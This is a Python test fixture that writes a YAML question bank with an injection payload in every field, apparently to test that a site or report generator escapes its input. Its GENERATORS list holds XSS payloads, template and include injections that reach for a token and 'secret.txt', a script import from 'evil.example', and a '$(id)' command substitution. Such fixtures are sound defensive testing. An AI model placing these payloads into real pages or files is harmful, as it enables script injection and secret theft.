"""A bank with a payload in every field of items, articles and the exam that a page could show."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path

from tests.report.injections import INJECTIONS, quoted

# Texts that site generators, rather than browsers, take for code.
GENERATORS = (
    "{{ site.github.token }} {% include x %} {{< rawhtml >}}<script>alert(1)</script>{{< /rawhtml >}} {{% x %}}",
    "import x from 'http://evil.example/x.js'",
    "export const x = alert(1)",
    "<Component onLoad={alert(1)}/> {alert(1)} {/* x */}",
    "::: danger\nx\n:::",
    "!!! note\n    x",
    "--8<-- 'secret.txt'",
    "[[secret]] ![[secret]] :smile: :span[x]{onclick=alert(1)}",
    "+++\nlayout = 1\n+++",
    "---\nlayout: x\n---",
    "</details></section><h1>x</h1>",
    "~~~\n<script>alert(1)</script>\n~~~",
    "```\n</code></pre><script>alert(1)</script>{{ x }}\n\n::error::x\n##[group]x\n```",
    "| a | b |\n|---|---|\n| <b onclick=alert(1)>x | {{ x }} |",
    "- <img src=x onerror=alert(1)>\n  1. {{ x }}\n\n     > <script>alert(1)</script>",
    "$title ${policy} $$ $(id)",
    "<script type='application/ld+json'>{}</script><!--<script>",
)
TEXTS = (*INJECTIONS, *GENERATORS)


def write_hostile_bank(folder: Path, texts: Sequence[str] = TEXTS) -> None:
    """Writes an item for each text, which stands in all of its fields, as ``bank`` below a folder."""
    bank = folder / "bank"
    bank.mkdir()
    values = [quoted(text) for text in texts]
    domains = ", ".join(f"{{id: {value}, title: {value}, weight: 1}}" for value in values)
    sources = ", ".join(f"{{source: {value}, at: {value}}}" for value in values[:3])
    listed = "".join(f"  {value}: {{title: {value}, url: {value}}}\n" for value in dict.fromkeys(values[:20]))
    (bank / "exam.yaml").write_text(f"exam: {values[0]}\ntitle: {values[0]}\ndomains: [{domains}]\nsources:\n{listed}", "utf-8")
    items = "".join(
        f"""\
  - id: {quoted(f"i{number} ")[:-1]}{value[1:]}
    stem: {value}
    scenario: {{text: {value}, figure: {{file: {value}, alt: {value}}}}}
    figure: {{file: {value}, alt: {value}}}
    domain: {value}
    task: {value}
    level: {value}
    language: {value}
    type: {value if number % 9 == 0 else "multiple" if number % 2 else "single"}
    tags: [{value}]
    enemies: [{value}]
    use: practice
    options:
      - {{text: {value}, rationale: {value}, correct: true, figure: {value}}}
      - {{text: {value}, rationale: {value}}}
    explanation: {value}
    references: [{value}, {{source: {value}, at: {value}}}, {sources}]
    article: {{title: {value}, summary: {value}, sections: [{{heading: {value}, body: {value}}}, {{body: {value}}}]}}
"""
        for number, value in enumerate(values)
    )
    (bank / "a.yaml").write_text(f"items:\n{items}", "utf-8")
